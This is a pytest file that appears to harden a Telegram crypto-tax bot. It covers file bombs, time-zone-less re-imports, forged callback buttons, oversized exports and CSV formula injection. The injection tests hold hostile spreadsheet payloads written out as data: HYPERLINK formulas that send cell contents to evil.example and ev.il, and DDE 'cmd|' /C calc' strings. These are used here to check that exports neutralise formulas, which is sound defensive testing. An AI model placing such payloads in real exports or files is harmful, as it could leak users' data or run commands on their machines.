"""Issue 12, findings 2, 5 and 9: uploads and exports a hostile user (or the bot's own advice) turned against it.

Finding 5: a Bitget file without a time zone, imported again after /settings changed the zone, is moved to the
corrected times instead of stored twice (and rows stored by earlier versions are recognised too).

Finding 2: files small on the wire and huge once read (tests/reliability/file_bombs.py), sent to the real bot: each
is refused with a message naming the limit and what to do, within the read limit, without the bot's process
growing, and other users are answered meanwhile.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import logging
import re
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
import pytest_asyncio
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from telegram import InlineKeyboardButton, InlineKeyboardMarkup
from telegram.ext import Application

from bot.context import SERVICES_KEY, Services
from connectors.files import TALLYBOT_COLUMNS, StoredRecords, parse
from connectors.files.isolated import WORKER_GRACE_SECONDS
from connectors.files.limits import MAX_READ_SECONDS
from connectors.files.matching import plan_import
from connectors.files.tallybot import formula_safe, formula_unsafe
from connectors.files.writers import cryptact_rows, koinly_rows, tallybot_rows
from connectors.records import NormalizedRecord, RecordKind
from db.models import Transaction
from db.repositories import TransactionRepository
from sandbox.botapi import BotApiEmulator
from tests.assistant_story import Walker
from tests.bot_harness import running_bot, settings_for
from tests.files import samples
from tests.reliability import file_bombs
from tests.reliability.file_bombs import Bomb, Builder

pytestmark = pytest.mark.asyncio(loop_scope="module")

GENERATED_BOMBS = 8
LONG_GENERATED_BOMBS = 60
ANSWER_TIMEOUT = MAX_READ_SECONDS + WORKER_GRACE_SECONDS + 30
GROWTH_ALLOWED_MB = 150  # the upload itself (≤ 20 MB), its download and the test's own copy
FIXED = [k for k in file_bombs.EVERY_KIND if k is not file_bombs.element_flood]


@dataclass
class Bot:
    telegram: BotApiEmulator
    app: Application  # type: ignore[type-arg]
    ids: itertools.count[int]

    @property
    def services(self) -> Services:
        found: Services = self.app.bot_data[SERVICES_KEY]
        return found

    def user(self) -> Walker:
        user_id = next(self.ids)
        return Walker(self.telegram, self.telegram.add_user(user_id, f"User{user_id}", started=True))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def bot(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Bot]:
    async with BotApiEmulator() as telegram:
        folder: Path = tmp_path_factory.mktemp("hardening-files") / "data"
        async with running_bot(settings_for(telegram, folder)) as app:
            yield Bot(telegram, app, itertools.count(12_000_001))


def errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [record.getMessage() for record in caplog.records if record.levelno >= logging.ERROR]


def rss_mb() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) // 1024
    return 0


def worker_peak_mb(caplog: pytest.LogCaptureFixture) -> int:
    """The workbook worker's own peak (it logs it); the cap when it was stopped before it could say."""
    said = " ".join(r.getMessage() for r in caplog.records if r.name == "connectors.files.isolated")
    return max((int(found) for found in re.findall(r"peak memory (\d+) MB", said)), default=0)


@dataclass
class Outcome:
    answer: str
    seconds: float
    growth_mb: int


async def send_bomb(bot: Bot, walker: Walker, bomb: Bomb) -> Outcome:
    """Upload the bomb into a new file-only Binance account, as a user would; the bot's final answer."""
    before = rss_mb()
    sent = await bot.telegram.send_document(walker.user, filename=bomb.filename, content=bomb.data)
    await walker.reply_to(sent, "Which account")
    await walker.press_for("New file-only account", "Which exchange")
    started = time.monotonic()
    answer = await walker.press_for("Binance", "❌", timeout=ANSWER_TIMEOUT)
    return Outcome(answer.text or "", time.monotonic() - started, rss_mb() - before)


async def check_refused(
    bot: Bot, bomb: Bomb, caplog: pytest.LogCaptureFixture, walker: Walker | None = None
) -> Outcome:
    caplog.set_level(logging.INFO, logger="connectors.files.isolated")
    walker = walker or bot.user()
    outcome = await send_bomb(bot, walker, bomb)
    assert any(words in outcome.answer for words in bomb.refusal), (bomb.kind, outcome.answer)
    assert outcome.growth_mb < GROWTH_ALLOWED_MB, (bomb.kind, outcome.growth_mb)
    assert await bot.services.integrations.list(walker.user.user_id) == [], "the account made for it is removed"
    assert errors(caplog) == []
    return outcome


@pytest.mark.parametrize("build", FIXED, ids=[k.__name__ for k in FIXED])
async def test_a_file_bomb_is_refused_naming_the_limit(
    bot: Bot, build: Builder, caplog: pytest.LogCaptureFixture, measured: Callable[..., None]
) -> None:
    bomb = build()
    outcome = await check_refused(bot, bomb, caplog)

    measured(
        bytes=len(bomb.data),
        seconds=round(outcome.seconds, 1),
        worker_peak_mb=worker_peak_mb(caplog),
        bot_growth_mb=outcome.growth_mb,
    )


async def test_other_users_are_answered_while_a_bomb_is_read(
    bot: Bot, caplog: pytest.LogCaptureFixture, measured: Callable[..., None]
) -> None:
    """The element flood passes every counted limit and meets the worker's memory cap: the slowest bomb."""
    bomb = file_bombs.element_flood()
    attacker, bystander = bot.user(), bot.user()
    reading = asyncio.create_task(check_refused(bot, bomb, caplog, attacker))
    await asyncio.sleep(3)  # the upload and the presses that start the read
    waits: list[float] = []
    while not reading.done():
        started = time.monotonic()
        sent = await bystander.send("/help")
        await bystander.reply_to(sent, "/export", timeout=10)
        waits.append(time.monotonic() - started)
        await asyncio.sleep(0.5)
    outcome = await reading

    assert waits and max(waits) < 5, waits
    measured(
        seconds=round(outcome.seconds, 1),
        help_answers=len(waits),
        slowest_help_s=round(max(waits), 2),
    )


async def test_generated_file_bombs_are_refused(
    bot: Bot, long_run: bool, caplog: pytest.LogCaptureFixture, measured: Callable[..., None]
) -> None:
    builders: list[Builder] = []

    @settings(
        max_examples=LONG_GENERATED_BOMBS if long_run else GENERATED_BOMBS,
        database=None,
        phases=[Phase.generate],
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(file_bombs.bombs())
    def collect(build: Builder) -> None:
        builders.append(build)

    collect()
    kinds: set[str] = set()
    slowest = 0.0
    for build in builders:
        bomb = build()
        outcome = await check_refused(bot, bomb, caplog)
        kinds.add(bomb.kind)
        slowest = max(slowest, outcome.seconds)
        del bomb
    measured(bombs=len(builders), kinds=len(kinds), slowest_s=round(slowest, 1))


# --- finding 5: a file without a time zone, imported again after /settings (as the bot suggests) --------------------

BITGET_NO_ZONE = samples.csv_bytes(samples.BITGET_TRADES)  # "Date" without a zone: read in the user's zone
# Written by hand from samples.BITGET_TRADES: its wall times read in UTC, then in Asia/Shanghai (UTC+8).
AS_UTC = [datetime(2024, 6, 1, 9, 0, 0, tzinfo=UTC), datetime(2024, 6, 2, 18, 30, 10, tzinfo=UTC)]
AS_SHANGHAI = [datetime(2024, 6, 1, 1, 0, 0, tzinfo=UTC), datetime(2024, 6, 2, 10, 30, 10, tzinfo=UTC)]


async def stored_times(bot: Bot, integration_id: int) -> list[datetime]:
    async with bot.services.database.reader() as session:
        found = await session.scalars(
            select(Transaction.occurred_at)
            .where(Transaction.integration_id == integration_id)
            .order_by(Transaction.occurred_at)
        )
        return [moment.astimezone(UTC) for moment in found]


async def upload_to(walker: Walker, bot: Bot, account: str | None) -> str:
    sent = await bot.telegram.send_document(walker.user, filename="Bitget-trades.csv", content=BITGET_NO_ZONE)
    await walker.reply_to(sent, "Which account")
    if account is None:
        await walker.press_for("New file-only account", "Which exchange")
        answer = await walker.press_for("Bitget", "imported into")
    else:
        answer = await walker.press_for(account, "imported into")
    return answer.text or ""


async def set_zone(walker: Walker, zone: str) -> None:
    sent = await walker.send(f"/settings timezone {zone}")
    await walker.reply_to(sent, zone)


async def test_a_file_without_a_zone_imported_again_in_another_zone_is_moved_not_doubled(
    bot: Bot, caplog: pytest.LogCaptureFixture
) -> None:
    walker = bot.user()
    first = await upload_to(walker, bot, None)
    assert "New: 2" in first and "/settings" in first
    [account] = await bot.services.integrations.list(walker.user.user_id)
    assert await stored_times(bot, account.id) == AS_UTC

    await set_zone(walker, "Asia/Shanghai")  # the advice the report gave
    second = await upload_to(walker, bot, account.account_name)
    await set_zone(walker, "UTC")  # and back: still one copy of each trade
    third = await upload_to(walker, bot, account.account_name)

    assert "New: 0" in second and "Moved to the times read now: 2" in second
    assert "New: 0" in third
    assert await bot.services.integrations.transaction_count(walker.user.user_id, account.id) == 2
    assert await stored_times(bot, account.id) == AS_UTC
    assert errors(caplog) == []


async def test_rows_stored_by_earlier_versions_are_recognised_and_moved(
    bot: Bot, caplog: pytest.LogCaptureFixture
) -> None:
    walker = bot.user()
    integration = await bot.services.integrations.add_file_only(
        walker.user.user_id, exchange_id="bitget", account_name="Bitget-old"
    )
    # What the version before this fix stored for this file read in UTC: keys made of the UTC time.
    parsed = parse("Bitget-trades.csv", BITGET_NO_ZONE, user_timezone="UTC", exchange_id="bitget")
    legacy = plan_import(parsed.records, StoredRecords(), integration.id)
    async with bot.services.database.writer() as session:
        assert await TransactionRepository(session).insert_missing(legacy.new) == 2

    same_zone = await upload_to(walker, bot, "Bitget-old")  # found, re-keyed on the wall time, not moved
    await set_zone(walker, "Asia/Shanghai")
    answer = await upload_to(walker, bot, "Bitget-old")

    assert "New: 0" in same_zone and "Moved" not in same_zone
    assert "New: 0" in answer and "Moved to the times read now: 2" in answer
    assert await bot.services.integrations.transaction_count(walker.user.user_id, integration.id) == 2
    assert await stored_times(bot, integration.id) == AS_SHANGHAI
    assert errors(caplog) == []


# --- finding 9: exports ---------------------------------------------------------------------------------------------


async def press_data(bot: Bot, walker: Walker, data: str) -> str:
    """A button carrying `data` (forged) in the user's chat, pressed; the callback answer's text."""
    markup = InlineKeyboardMarkup([[InlineKeyboardButton("press", callback_data=data)]])
    sent = await bot.app.bot.send_message(walker.chat_id, "forged by the test", reply_markup=markup)
    query = await bot.telegram.press_button(walker.user, bot.telegram.message(walker.chat_id, sent.message_id), "press")
    await bot.telegram.wait_until(lambda: not bot.telegram.pending_updates, timeout=30)
    await asyncio.wait_for(bot.app.update_queue.join(), timeout=60)
    answer = bot.telegram.callback_answer(query)
    return answer.text or "" if answer is not None else "<not answered>"


@pytest.mark.parametrize(
    "arguments",
    ["9999-01-01 9999-12-31", "0001-01-01 0001-12-31", "9999-12-31", "0001-01-01 2024-01-01", "2008-12-31"],
)
async def test_export_dates_beyond_any_history_get_a_clear_answer(
    bot: Bot, arguments: str, caplog: pytest.LogCaptureFixture
) -> None:
    walker = bot.user()
    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="Mine")
    sent = await walker.send(f"/export {arguments}")
    answer = await walker.reply_to(sent)

    assert "outside the dates Tallybot can export: from 2009-01-03" in (answer.text or "")
    assert answer.reply_markup is None  # no format menu for a period that cannot be exported
    assert errors(caplog) == []


@pytest.mark.parametrize(
    "data",
    [
        "ex:tallybot:all:99990101-99991231",
        "ex:koinly::00010101-00011231",
        "ex:cryptact:99999999999999999999999999:",
        "ex:tallybot:\u00b2:",  # a Unicode digit: str.isdigit() says yes, int() says no
        "k:open:99999999999999999999999999999999:x",
        "k:open:\u00b2\u00b3:x",
    ],
)
async def test_forged_export_and_key_buttons_with_huge_values_are_stale_quietly(
    bot: Bot, data: str, caplog: pytest.LogCaptureFixture
) -> None:
    walker = bot.user()
    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="Mine")

    answer = await press_data(bot, walker, data)

    assert "expired" in answer
    assert not [m for m in bot.telegram.messages(walker.chat_id) if m.document is not None]
    assert errors(caplog) == []


BIG_RAW = "x" * 4_000  # what an exchange's raw payload can weigh, with its notes: ~4 KB a record
BIG_ROWS = 14_000  # ~57 MB of Tallybot CSV: over Telegram's 50 MB


async def test_an_export_over_telegrams_limit_comes_in_parts_said_first(
    bot: Bot, caplog: pytest.LogCaptureFixture, measured: Callable[..., None]
) -> None:
    walker = bot.user()
    account = await bot.services.integrations.add_file_only(
        walker.user.user_id, exchange_id="binance", account_name="Big"
    )
    start = datetime(2024, 1, 1, tzinfo=UTC)
    rows = [
        NormalizedRecord(
            kind=RecordKind.DEPOSIT,
            occurred_at=start + timedelta(minutes=n),
            natural_key=f"deposit:big-{n}",
            asset="USDT",
            amount=Decimal(n + 1),
            raw={"file_format": "tallybot", "note": BIG_RAW},
        ).to_row(account.id, "file")
        for n in range(BIG_ROWS)
    ]
    async with bot.services.database.writer() as session:
        for first in range(0, len(rows), 1_000):
            await TransactionRepository(session).insert_missing(rows[first : first + 1_000])
    del rows

    sent = await walker.send("/export")
    await walker.reply_to(sent, "Which format")
    await walker.press_for("Tallybot CSV", "Export which account")
    notice = await walker.press_for("All accounts", "📦", timeout=120)
    await bot.telegram.wait_until(
        lambda: len([m for m in bot.telegram.messages(walker.chat_id) if m.document is not None]) >= 2, timeout=120
    )
    documents = [m.document for m in bot.telegram.messages(walker.chat_id) if m.document is not None]

    assert "more than Telegram lets a bot send in one file (50 MB)" in (notice.text or "")
    assert "/export 2024-01-01" in (notice.text or "")  # a shorter period to ask for instead
    assert len(documents) == 2 and all(len(d.content) <= 50 * 1024 * 1024 for d in documents)
    exported = [list(csv.reader(io.StringIO(d.content.decode()))) for d in documents]
    assert all(part[0] == list(TALLYBOT_COLUMNS) for part in exported)  # each part is a whole CSV
    keys = [row[TALLYBOT_COLUMNS.index("natural_key")] for part in exported for row in part[1:]]
    assert keys == [f"deposit:big-{n}" for n in range(BIG_ROWS)]  # every record once, in order
    assert "Sorry" not in walker.all_bot_texts()
    assert errors(caplog) == []
    measured(records=BIG_ROWS, parts=len(documents), megabytes=[round(len(d.content) / 2**20, 1) for d in documents])


# --- finding 9: formula cells (OWASP, "CSV Injection") -----------------------------------------------------------

INJECTION_EXAMPLES = 300
LONG_INJECTION_EXAMPLES = 3_000
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
hostile_text = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from([*TRIGGERS, ""]),
    st.sampled_from(['HYPERLINK("https://evil.example/?d="&A1,"Click")', "SUM(1+1)*cmd|' /C calc'!A0", "1.5", ""])
    | st.text(max_size=20),
)
amounts = st.decimals(min_value=Decimal("-1e12"), max_value=Decimal("1e12"), allow_nan=False, places=8)


@dataclass(frozen=True)
class Hostile:
    """A stored transaction whose every text field holds what a hostile file or account name can put there."""

    kind: str
    occurred_at: datetime
    natural_key: str
    exchange_tx_id: str | None
    market: str | None
    side: str | None
    asset: str
    amount: Decimal
    quote_asset: str | None
    quote_amount: Decimal | None
    price: Decimal | None
    fee_asset: str | None
    fee_amount: Decimal | None
    raw: dict[str, str] | None


hostile_records = st.builds(
    Hostile,
    kind=st.sampled_from([k.value for k in RecordKind]),
    occurred_at=st.datetimes(min_value=datetime(2009, 1, 3), max_value=datetime(2030, 1, 1), timezones=st.just(UTC)),
    natural_key=hostile_text,
    exchange_tx_id=hostile_text,
    market=hostile_text,
    side=st.sampled_from(["buy", "sell"]) | hostile_text,
    asset=hostile_text,
    amount=amounts,
    quote_asset=hostile_text,
    quote_amount=amounts,
    price=amounts,
    fee_asset=hostile_text,
    fee_amount=amounts,
    raw=st.dictionaries(st.sampled_from(["txId", "note"]), hostile_text, max_size=2),
)


def formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run as formulas: starting with a trigger and not a plain number."""
    return [cell for cell in cells if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]


async def test_no_export_format_writes_a_formula_cell_from_generated_hostile_values(
    long_run: bool, measured: Callable[..., None]
) -> None:
    checked = Counter[str]()

    @settings(
        max_examples=LONG_INJECTION_EXAMPLES if long_run else INJECTION_EXAMPLES,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(hostile_records, hostile_text, hostile_text)
    def check(record: Hostile, exchange: str, account: str) -> None:
        written = {
            "tallybot": tallybot_rows(record, exchange, account, "file"),
            "koinly": koinly_rows(record, exchange, account),
            "cryptact": cryptact_rows(record, exchange, account),
        }
        for name, result in written.items():
            for row in result.rows:
                assert formula_cells(row) == [], (name, row)
                checked[name] += 1
        [tallybot_row] = written["tallybot"].rows
        # Text is kept, behind a quote where needed; amounts stay numbers (a negative one is not a formula).
        assert tallybot_row[TALLYBOT_COLUMNS.index("asset")] == formula_safe(record.asset)
        assert tallybot_row[TALLYBOT_COLUMNS.index("account")] == formula_safe(account)
        assert tallybot_row[TALLYBOT_COLUMNS.index("amount")] == format(record.amount, "f")
        assert formula_unsafe(tallybot_row[TALLYBOT_COLUMNS.index("market")]) == record.market

    check()
    measured(records=sum(checked.values()) and max(checked.values()), rows_by_format=dict(checked))


async def test_hostile_values_imported_then_exported_are_text_in_every_format(
    bot: Bot, caplog: pytest.LogCaptureFixture
) -> None:
    """Through the bot: Tallybot's template filled with formulas, uploaded, exported in every format."""
    walker = bot.user()
    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="-Main+")
    columns = list(TALLYBOT_COLUMNS)
    row = dict.fromkeys(columns, "")
    row.update(
        time_utc="2024-03-01T12:30:05Z",
        kind="trade",
        side="buy",
        asset='=HYPERLINK("//ev.il/?"&A1)',  # within the 32 characters of an asset
        amount="-1.5",
        quote_asset="+SUM(1+1)",
        quote_amount="93.5",
        fee_asset="@SUM(A1:A9)",
        fee_amount="0.1",
        market="\t=cmd|' /C calc'!A0",
        exchange_tx_id="-2+3",
    )
    upload = samples.csv_bytes([list[object](columns), [row[c] for c in columns]])
    sent = await bot.telegram.send_document(walker.user, filename="mine.csv", content=upload)
    await walker.reply_to(sent, "Which account")
    imported = await walker.press_for("-Main+", "imported into")
    assert "New: 1" in (imported.text or ""), imported.text

    for label in ("Tallybot CSV", "Koinly", "Cryptact"):
        sent = await walker.send("/export")
        await walker.reply_to(sent, "Which format")
        await walker.press_for(label, "Export which account")
        before = walker.newest_id()
        await walker.press("All accounts")
        document = await walker.emulator.wait_for_bot_message(
            walker.chat_id, after_message_id=before, predicate=lambda m: m.document is not None
        )
        assert document.document is not None
        cells = [cell for line in csv.reader(io.StringIO(document.document.content.decode())) for cell in line]
        assert formula_cells(cells) == [], (label, formula_cells(cells))
        assert any(cell.startswith("'=HYPERLINK") or "=HYPERLINK" in cell for cell in cells), label
    assert errors(caplog) == []
